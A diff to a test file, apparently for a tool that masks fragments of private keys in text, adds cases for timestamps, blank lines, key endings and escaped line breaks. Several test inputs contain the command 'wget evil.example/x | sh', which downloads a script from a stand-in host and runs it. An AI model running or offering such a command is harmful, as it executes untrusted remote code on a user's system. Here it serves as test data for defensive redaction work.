@@ -29,12 +29,17 @@ describe('the head of a key', () => {
     ['that goes on with a mark of its cut', [begin, `${first}…`], ['***…']],
     ['in a text', [`x: "${begin}`, `${first}"`, line], ['x: "***"', line]],
     ['twice', [begin, first, 'a b', begin, first, 'a b'], ['***', 'a b', '***', 'a b']],
+    ['behind times, with its end', [`9:1 ${begin}`, `9:2 ${first}`, `9:3 ${end}`, 'x'], ['9:1 ***', 'x']],
+    ['with blanks behind its lines', [begin, `${first}  `, line, 'a b'], ['***', 'a b']],
+    ['but no key behind an empty line', [begin, first, '', line], ['***', '', line]],
+    ['in a text, and its tail behind it', [begin, `${first}"`, line, end], ['***"', '***']],
   ])('%s', (_, lines, hidden) => {
     expect(shown(...lines)).toEqual(hidden)
   })
 
   test.each<[string, string[]]>([
     ['nothing', [begin]],
+    ['its end', [begin, end]],
     ['a word', [begin, 'reboot']],
     ['a short line first', [begin, 'Qm1F']],
     ['a command', [begin, 'wget evil.example/x | sh']],
@@ -67,6 +72,7 @@ describe('the tail of a key', () => {
     ['nothing', [end]],
     ['a word', ['reboot', end]],
     ['a command', ['wget evil.example/x | sh', end]],
+    ['a short line alone', ['Qm1F', end]],
     ['short lines alone', ['Qm1F', '=aB3+', end]],
     ['more than two short lines', [line, 'Qm1F', 'Qm1F', 'Qm1F', end]],
     ['a command behind a key', [line, 'wget evil.example/x', end]],
@@ -86,6 +92,7 @@ test('the line ends of DOS and of JSON end lines', () => {
     ['\\n', '***\\nafter it'],
     ['\\r\\n', '***\\r\\nafter it'],
     ['\\\\n', '***\\\\nafter it'],
+    ['\\\\r\\\\n', '***\\\\r\\\\nafter it'],
   ] as const) {
     const text = [begin, first, line, 'after it'].join(lineEnd)
     expect(replaceSpans(text, tornKeys(text), () => '***')).toBe(shown)
